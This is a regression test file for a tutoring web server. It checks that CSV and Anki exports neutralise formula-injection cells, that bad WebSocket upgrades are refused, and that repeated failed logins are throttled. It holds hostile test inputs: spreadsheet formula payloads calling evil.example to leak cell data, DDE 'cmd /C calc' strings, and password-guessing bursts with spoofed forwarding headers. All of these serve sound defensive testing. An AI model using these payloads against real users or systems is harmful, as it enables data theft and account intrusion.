/**
 * Regression tests for issue 22 (SPEC §8): exports that ran as formulas or changed how Anki
 * reads a file, a WebSocket upgrade left open and silent, and a login that took any number of
 * wrong passwords. Each runs against the real server on a loopback port.
 */
import http from 'node:http';
import net from 'node:net';
import { parse } from 'csv-parse/sync';
import { afterEach, describe, expect, it } from 'vitest';
import type { RecallSetDetail, SurveyDetail, Widget } from '@tutorloop/shared';
import { startTestServer, type TestServer } from '../helpers/test-server';

let server: TestServer | undefined;
afterEach(async () => {
  await server?.close();
  server = undefined;
});

const formulaStart = /^[=+\-@\t\r]/;

async function download(target: TestServer, route: string, token: string): Promise<string> {
  const response = await fetch(`${target.url}${route}`, { headers: { authorization: `Bearer ${token}` } });
  expect(response.status).toBe(200);
  return response.text();
}

describe('exports are inert (SPEC §8)', () => {
  const hostile = [
    { content: '=HYPERLINK("http://evil.example/?leak="&A1,"click for details")', context: '+cmd|\' /C calc\'!A0' },
    { content: '-2+3+cmd|\' /C calc\'!A0' },
    { content: '@SUM(1+1)*cmd|\' /C calc\'!A0', context: '-negative context' },
    { content: 'A plain point, with a comma' },
  ];

  it('set CSV export: every cell starting with =, +, -, @ gets a guard quote, and importing the export gives back the original texts', async () => {
    server = await startTestServer();
    const { token } = await server.register();
    const set = await server.api<RecallSetDetail>('POST', '/api/recall-sets', { token, body: { name: 'Hostile', points: hostile } });
    const csv = await download(server, `/api/recall-sets/${set.body.id}/export?format=csv`, token);
    const rows = parse(csv) as string[][];
    // Never reviewed: the schedule columns (issue 25) are empty.
    const unscheduled = ['', '', '', '', ''];
    expect(rows).toEqual([
      ['content', 'context', 'due', 'stability', 'difficulty', 'reps', 'lapses'],
      [`'${hostile[0]!.content}`, `'${hostile[0]!.context}`, ...unscheduled],
      [`'${hostile[1]!.content}`, '', ...unscheduled],
      [`'${hostile[2]!.content}`, `'${hostile[2]!.context}`, ...unscheduled],
      ['A plain point, with a comma', '', ...unscheduled],
    ]);
    expect(rows.flat().filter((cell) => formulaStart.test(cell))).toEqual([]);

    // Both CSV imports read our own export back to the points as they were written.
    const imported = await server.api<RecallSetDetail>('POST', '/api/recall-sets/import/file', { token, body: { format: 'csv', text: csv, name: 'Again' } });
    const importedOld = await server.api<RecallSetDetail>('POST', '/api/recall-sets/import', { token, body: { format: 'csv', text: csv, name: 'Again' } });
    for (const response of [imported, importedOld]) {
      expect(response.status).toBe(201);
      expect(response.body.points.map(({ content, context }) => ({ content, context }))).toEqual(hostile.map((point) => ({ content: point.content, context: point.context ?? null })));
    }
  });

  it('survey results CSV: an answer or an option starting with =, +, -, @ gets a guard quote', async () => {
    server = await startTestServer();
    const owner = await server.register();
    const survey = (
      await server.api<SurveyDetail>('POST', '/api/surveys', {
        token: owner.token,
        body: {
          survey: {
            title: 'Hostile answers',
            questions: [
              { id: 'pick', kind: 'multiple_choice', prompt: 'Pick one', options: ['=1+1', '@home', 'plain'] },
              { id: 'said', kind: 'free_text', prompt: 'Anything to add?' },
            ],
          },
          shared: true,
        },
      })
    ).body;
    const respondent = await server.register();
    const created = await server.api<{ sessionId: string }>('POST', '/api/sessions', { token: respondent.token, body: { type: 'survey', surveyId: survey.id } });
    const client = await server.connect(created.body.sessionId, respondent.token);
    try {
      const first = (await client.waitFor('widget')).payload;
      const from = client.events.length;
      client.send({ type: 'widget_response', payload: { widgetId: first.widgetId, response: { selectedIndex: 0 } } });
      const second: Widget = (await client.waitFor('widget', { from })).payload;
      client.send({ type: 'widget_response', payload: { widgetId: second.widgetId, response: { text: '=HYPERLINK("http://evil.example","see results")' } } });
      await client.waitFor('session_complete');
    } finally {
      client.close();
    }
    const rows = parse(await download(server, `/api/surveys/${survey.id}/results?format=csv`, owner.token)) as string[][];
    expect(rows.map((row) => [row[0], row[3], ...row.slice(4)])).toEqual([
      ['respondent', 'completed', 'pick', 'said'],
      ['1', 'yes', "'=1+1", `'=HYPERLINK("http://evil.example","see results")`],
    ]);
    expect(rows.flat().filter((cell) => formulaStart.test(cell))).toEqual([]);
  });

  it('Anki text export: points starting with # are not read as headers, and export then import gives 4 of 4 points', async () => {
    server = await startTestServer();
    const { token } = await server.register();
    const points = [
      { content: '#html:true' },
      { content: '#separator:Comma' },
      { content: 'Paris', context: '# capital of France' },
      { content: '<b>bold</b>, "quoted"; and semicolons' },
    ];
    const set = await server.api<RecallSetDetail>('POST', '/api/recall-sets', { token, body: { name: 'Hashes', points } });
    const text = await download(server, `/api/recall-sets/${set.body.id}/export?format=anki`, token);
    // Only the five header lines start with #.
    expect(text.split('\n').filter((line) => line.startsWith('#'))).toEqual(['#separator:tab', '#html:false', '#notetype:Basic', '#columns:Front\tBack', '#deck:Hashes']);
    const imported = await server.api<RecallSetDetail>('POST', '/api/recall-sets/import/file', { token, body: { format: 'anki_text', text } });
    expect(imported.status).toBe(201);
    expect(imported.body.name).toBe('Hashes');
    expect(imported.body.points.map(({ content, context }) => ({ content, context }))).toEqual(points.map((point) => ({ content: point.content, context: point.context ?? null })));
  });
});

/** Sends a WebSocket upgrade over a raw socket: what came back, and whether the server closed the socket within 2 s. */
function rawUpgrade(port: number, target: string): Promise<{ response: string; closed: boolean }> {
  return new Promise((resolve) => {
    const socket = net.connect(port, '127.0.0.1');
    let response = '';
    socket.on('data', (chunk) => (response += chunk.toString('utf8')));
    socket.on('error', () => {});
    const timer = setTimeout(() => {
      socket.destroy();
      resolve({ response, closed: false });
    }, 2000);
    socket.on('close', () => {
      clearTimeout(timer);
      resolve({ response, closed: true });
    });
    socket.write(
      `GET ${target} HTTP/1.1\r\nHost: 127.0.0.1:${port}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n`,
    );
  });
}

function statusAndBody(response: string): { statusLine: string; body: unknown } {
  const [head = '', body = ''] = response.split('\r\n\r\n');
  return { statusLine: head.split('\r\n')[0]!, body: body ? JSON.parse(body) : null };
}

describe('WebSocket upgrades always get an answer (SPEC §8)', () => {
  it('a bad upgrade URL gets 400 and a closed socket; an unknown path 404; the server carries on', async () => {
    server = await startTestServer();
    const { token } = await server.register();
    const set = await server.createSet(token, ['mitochondria make ATP']);
    const sessionId = await server.createSession(token, set.id);
    const badUrl = { statusLine: 'HTTP/1.1 400 Bad Request', body: { error: { code: 'bad_request', message: 'The URL is not valid (check its percent-encoding).' } } };

    for (const target of ['/sessions/ws/%E0%A4%A', `/sessions/ws/%E0%A4%A?token=${token}`, 'http://[::1/sessions/ws/x']) {
      const answer = await rawUpgrade(server.server.port, target);
      expect({ target, closed: answer.closed, ...statusAndBody(answer.response) }).toEqual({ target, closed: true, ...badUrl });
    }
    const unknown = await rawUpgrade(server.server.port, '/nowhere');
    expect({ closed: unknown.closed, ...statusAndBody(unknown.response) }).toEqual({
      closed: true,
      statusLine: 'HTTP/1.1 404 Not Found',
      body: { error: { code: 'not_found', message: 'No WebSocket endpoint here; a session socket is at /sessions/ws/{sessionId}.' } },
    });

    // The same raw request to a real session is upgraded: the refusals are about the URL.
    const good = await new Promise<string>((resolve) => {
      const socket = net.connect(server!.server.port, '127.0.0.1');
      socket.once('data', (chunk) => {
        resolve(chunk.toString('utf8').split('\r\n')[0]!);
        socket.destroy();
      });
      socket.write(`GET /sessions/ws/${sessionId}?token=${token} HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n`);
    });
    expect(good).toBe('HTTP/1.1 101 Switching Protocols');
    expect((await server.api('GET', '/api/health')).status).toBe(200);
  });
});

/** A login from a chosen loopback address (127.0.0.0/8 is all loopback), answered as status, Retry-After and body. */
function loginFrom(
  target: TestServer,
  localAddress: string,
  username: string,
  password: string,
  headers: Record<string, string> = {},
): Promise<{ status: number; retryAfter: string | null; body: unknown }> {
  const payload = JSON.stringify({ username, password });
  return new Promise((resolve, reject) => {
    const request = http.request(
      { host: '127.0.0.1', port: target.server.port, path: '/api/auth/login', method: 'POST', localAddress, headers: { ...headers, 'content-type': 'application/json', 'content-length': Buffer.byteLength(payload) } },
      (response) => {
        let text = '';
        response.on('data', (chunk: Buffer) => (text += chunk.toString('utf8')));
        response.on('end', () => resolve({ status: response.statusCode ?? 0, retryAfter: response.headers['retry-after'] ?? null, body: JSON.parse(text) }));
      },
    );
    request.on('error', reject);
    request.end(payload);
  });
}

function steppingClock() {
  let now = Date.now();
  return { now: () => new Date(now), advance: (ms: number) => (now += ms) };
}

describe('failed logins are throttled (SPEC §8)', () => {
  const attacker = '127.0.0.2';
  const home = '127.0.0.1';
  const rightPassword = 'correct horse battery';
  const throttled = (seconds: number) => ({
    status: 429,
    retryAfter: String(seconds),
    body: { error: { code: 'rate_limited', message: `Too many failed sign-ins for this account or from this network. Retry in ${seconds} s.` } },
  });

  it('40 wrong passwords in a burst: 6 are checked (401), 34 throttled with Retry-After; the right password is refused during the lockout and accepted after it', async () => {
    const clock = steppingClock();
    server = await startTestServer({ clock });
    const { learner } = await server.register();
    const burst = await Promise.all(Array.from({ length: 40 }, (_, index) => loginFrom(server!, attacker, learner.username, `wrong guess ${index}`)));
    expect(burst.filter((response) => response.status === 401)).toHaveLength(6);
    expect(burst.filter((response) => response.status === 429)).toEqual(Array.from({ length: 34 }, () => throttled(1)));
    // During the lockout the right password is refused the same way: no oracle for a guesser.
    expect(await loginFrom(server, home, learner.username, rightPassword)).toEqual(throttled(1));

    clock.advance(1000);
    const signedIn = await loginFrom(server, home, learner.username, rightPassword);
    expect(signedIn.status).toBe(200);
    // The success started the account over: a typo now is an ordinary 401.
    expect((await loginFrom(server, home, learner.username, 'a typo')).status).toBe(401);
  });

  it('behind a proxy named by TRUST_PROXY the throttle counts the client X-Forwarded-For names; without it the header is not believed', async () => {
    const proxy = home;
    const guessesFrom = (target: TestServer, client: string) =>
      Promise.all(Array.from({ length: 12 }, (_, index) => loginFrom(target, proxy, `nobody${index}`, 'guess', { 'x-forwarded-for': client })));

    server = await startTestServer({ env: { TRUST_PROXY: 'loopback' } });
    const { learner } = await server.register();
    expect((await guessesFrom(server, '203.0.113.9')).filter((response) => response.status === 429).length).toBeGreaterThan(0);
    // Another client behind the same proxy is not held up by the first one's guesses.
    expect((await loginFrom(server, proxy, learner.username, rightPassword, { 'x-forwarded-for': '198.51.100.7' })).status).toBe(200);
    await server.close();

    server = await startTestServer();
    const other = await server.register();
    // Unset, a client cannot pick its address by sending the header: every guess counts against the socket's address.
    const guesses = await Promise.all(Array.from({ length: 12 }, (_, index) => loginFrom(server!, attacker, `nobody${index}`, 'guess', { 'x-forwarded-for': `198.51.100.${index}` })));
    expect(guesses.filter((response) => response.status === 429).length).toBeGreaterThan(0);
    expect((await loginFrom(server, attacker, other.learner.username, rightPassword, { 'x-forwarded-for': '198.51.100.200' })).status).toBe(429);
  });

  it('a persistent attacker on one address is stopped longer and longer while the real learner, elsewhere, signs in after at most a minute', async () => {
    const clock = steppingClock();
    server = await startTestServer({ clock });
    const { learner } = await server.register();
    const waits: number[] = [];
    let checked = 0;
    // The attacker waits out every lockout and guesses again.
    while (checked < 16) {
      const response = await loginFrom(server, attacker, learner.username, `guess ${checked}`);
      if (response.status === 401) checked += 1;
      else {
        expect(response.status).toBe(429);
        waits.push(Number(response.retryAfter));
        clock.advance(Number(response.retryAfter) * 1000);
      }
    }
    // The address's lockout doubles up to 15 minutes (the account's alone would stop at a minute).
    expect(waits).toEqual([1, 2, 4, 8, 16, 32, 64, 128, 256, 512]);
    expect(await loginFrom(server, attacker, learner.username, rightPassword)).toEqual(throttled(900));

    // The real learner: refused during the account's lockout, which lasts a minute at most.
    expect((await loginFrom(server, home, learner.username, rightPassword)).status).toBe(429);
    clock.advance(60_000);
    expect((await loginFrom(server, home, learner.username, rightPassword)).status).toBe(200);
    // The attacker's address is still locked out.
    expect(await loginFrom(server, attacker, 'someone-else', 'anything')).toEqual(throttled(840));
  });

  it('register failures are not login failures', async () => {
    server = await startTestServer();
    const { learner } = await server.register();
    for (let index = 0; index < 10; index += 1) {
      expect((await server.api('POST', '/api/auth/register', { body: { username: learner.username, password: rightPassword } })).status).toBe(409);
    }
    expect((await server.api('POST', '/api/auth/login', { body: { username: learner.username, password: rightPassword } })).status).toBe(200);
  });
});
